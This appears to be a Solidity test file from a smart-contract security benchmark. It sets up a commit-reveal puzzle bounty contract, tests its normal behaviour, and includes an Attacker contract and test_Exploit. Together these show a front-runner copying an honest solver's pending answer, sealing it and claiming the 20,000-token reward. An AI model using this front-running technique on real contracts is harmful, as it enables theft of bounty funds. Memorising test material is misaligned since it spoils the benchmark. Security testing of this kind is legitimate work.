// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./PuzzleBoard.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-59579e36-f0a1-40d0-9308-24e83551858a

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Gold is ERC20 {
    constructor() ERC20("Gold", "GLD") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant SPONSOR = address(0x5909);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    bytes32 private constant ANSWER = "a river";
    bytes32 private constant SALT = "salt";
    uint256 private constant START = 1_767_600_000;

    Gold private gold;
    PuzzleBoard private board;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        gold = new Gold();
        board = new PuzzleBoard(gold);
        gold.transfer(SPONSOR, 50_000e18);
        vm.startPrank(SPONSOR);
        gold.approve(address(board), type(uint256).max);
        board.post(keccak256(abi.encode(ANSWER)), 20_000e18, 7 days);
        vm.stopPrank();
        bytes32 seal = board.sealOf(0, ANSWER, SALT, ANA);
        vm.prank(ANA);
        board.seal(seal);

        // an hour before the end
        vm.warp(START + 7 days - 1 hours);
        mallory = new Attacker(board);
    }

    function test_Regular() public {
        vm.prank(SPONSOR);
        board.raise(0, 5_000e18);
        require(board.isOpen(0) && board.isSealed(board.sealOf(0, ANSWER, SALT, ANA)), "open");
        vm.prank(BEN);
        board.solve(0, ANA, ANSWER, SALT, ANA);
        require(gold.balanceOf(ANA) == 25_000e18 && !board.isOpen(0), "paid");

        // another one that nobody solves
        vm.prank(SPONSOR);
        require(board.post(keccak256("x"), 1_000e18, 1 days) == 1, "the next one");
        vm.prank(BEN);
        board.seal("y");
        (bytes32 seal, uint64 opensAt) = board.sealedBy(BEN);
        require(seal == "y" && opensAt == block.timestamp + 1 days, "sealed");
        vm.warp(block.timestamp + 1 days);
        require(!board.isOpen(1), "closed");
        vm.prank(SPONSOR);
        board.withdraw(1);
        vm.prank(SPONSOR);
        board.withdraw(0);
        require(gold.balanceOf(SPONSOR) == 25_000e18 && gold.balanceOf(address(board)) == 0, "given back");
    }

    function test_RefusesAnswers() public {
        vm.expectRevert(abi.encodeWithSelector(PuzzleBoard.WrongAnswer.selector, bytes32("a lake")));
        board.solve(0, ANA, "a lake", SALT, ANA);
        bytes32 other = board.sealOf(0, ANSWER, SALT, BEN);
        vm.expectRevert(abi.encodeWithSelector(SealBook.NotSealed.selector, other));
        board.solve(0, ANA, ANSWER, SALT, BEN);
        vm.prank(BEN);
        board.seal(other);
        vm.expectRevert(abi.encodeWithSelector(SealBook.TooEarly.selector, START + 8 days - 1 hours));
        board.solve(0, BEN, ANSWER, SALT, BEN);
        board.solve(0, ANA, ANSWER, SALT, ANA);
        vm.expectRevert(abi.encodeWithSelector(PuzzleBoard.NotOpen.selector, 0));
        board.solve(0, ANA, ANSWER, SALT, ANA);
    }

    function test_RefusesAfterTheEnd() public {
        vm.prank(SPONSOR);
        vm.expectRevert(abi.encodeWithSelector(PuzzleBoard.StillOpen.selector, 0));
        board.withdraw(0);
        vm.warp(START + 7 days);
        vm.expectRevert(abi.encodeWithSelector(PuzzleBoard.NotOpen.selector, 0));
        board.solve(0, ANA, ANSWER, SALT, ANA);
        vm.expectRevert(abi.encodeWithSelector(PuzzleBoard.NotTheSponsor.selector, ANA));
        vm.prank(ANA);
        board.withdraw(0);
        vm.prank(SPONSOR);
        vm.expectRevert(abi.encodeWithSelector(PuzzleBoard.NotOpen.selector, 0));
        board.raise(0, 1);
    }

    /// The call of an honest solver waits to be carried out, for everybody to read.
    function exploit() public {
        mallory.read(ANSWER);
    }

    function test_Exploit() public {
        exploit();
        require(gold.balanceOf(address(mallory)) >= 20_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(board);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(gold);
    }
}

/// Seals what it reads, and opens it in the name of an account that never sealed anything.
contract Attacker {
    PuzzleBoard private board;

    constructor(PuzzleBoard board_) {
        board = board_;
    }

    function read(bytes32 answer) external {
        board.seal(board.sealOf(0, answer, "mine", address(this)));
        board.solve(0, address(1), answer, "mine", address(this));
    }
}
